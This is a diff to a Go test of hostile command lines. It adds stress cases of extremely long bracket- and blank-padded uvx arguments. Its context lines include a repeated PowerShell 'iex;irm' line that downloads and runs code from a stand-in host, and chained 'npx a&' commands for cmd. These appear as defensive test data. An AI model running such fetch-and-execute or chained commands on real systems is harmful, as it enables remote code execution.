@@ -88,6 +88,8 @@ func TestHostileCommandLinesEnd(t *testing.T) {
 		"commas":           {"uvx", "--with", strings.Repeat("a,", 50_000), "b"},
 		"PowerShell":       {"pwsh", "-c", strings.Repeat("iex;irm https://x.example/a;", 5_000)},
 		"windows commands": {"cmd", "/c", strings.Repeat("npx a&", 50_000)},
+		"open brackets":    {"uvx", "--with", "[" + strings.Repeat("a,", 100_000), "b"},
+		"blanks":           {"uvx", "--with", "a," + strings.Repeat(" ", 200_000), "b"},
 		"dashes":           strings.Split("uvx a"+strings.Repeat(" -- uvx a", 20_000), " "),
 	} {
 		t.Run(name, func(t *testing.T) {
